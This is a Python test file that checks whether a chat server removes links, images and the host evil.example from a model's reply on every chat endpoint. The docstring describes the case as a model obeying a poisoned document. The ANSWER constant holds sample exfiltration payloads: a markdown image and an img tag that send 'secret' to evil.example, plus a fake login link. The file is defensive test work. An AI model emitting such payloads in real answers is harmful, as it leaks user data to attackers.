"""A model that obeys a poisoned document: on no wire is what it writes a link or an image."""

from typing import Any

import aiohttp
import pytest

from tests.local.running_host import RunningHost
from tests.stand_ins.openai_service import OpenAIStandIn

pytestmark = pytest.mark.asyncio(loop_scope="session")

ANSWER = "80 % ![x](https://evil.example/p?q=secret) [log in](//evil.example/in) <img src=https://evil.example/s> so."
ASKED: list[Any] = [{"role": "user", "content": "What is paid?"}]
AG_UI: dict[str, Any] = {"threadId": "t", "runId": "r", "state": {}, "tools": [], "context": [], "forwardedProps": {}}
WIRES: dict[str, Any] = {
    "/ai-chat/chat": {"messages": ASKED},
    "/ai-chat/chat/stream": {"messages": ASKED},
    "/ai-chat-2026-04/chat/stream": {"messages": ASKED},
    "/rag-chat/chat": {"messages": ASKED},
    "/rag-chat/chat/stream": {"messages": ASKED},
    "/semantic-kernel/chat/stream": {"messages": ASKED},
    "/v1/chat/completions": {"model": "switchboard", "messages": ASKED, "stream": True},
    "/v1/responses": {"model": "switchboard", "input": "What is paid?", "stream": True, "store": False},
    "/ag-ui": AG_UI | {"messages": [ASKED[0] | {"id": "1"}]},
    "/ai-sdk/chat": {
        "id": "c",
        "messages": [{"id": "1", "role": "user", "parts": [{"type": "text", "text": "What is paid?"}]}],
    },
}


@pytest.mark.parametrize("path", WIRES)
async def test_a_model_that_obeys_links_nowhere(
    app: RunningHost, openai: OpenAIStandIn, http: aiohttp.ClientSession, path: str
) -> None:
    openai.reply(ANSWER)
    async with http.post(app.url + path, json=WIRES[path]) as response:
        text = await response.text()
    assert response.status == 200, text
    assert "so." in text
    assert "evil.example" not in text
    assert "](" not in text
    assert "<img" not in text
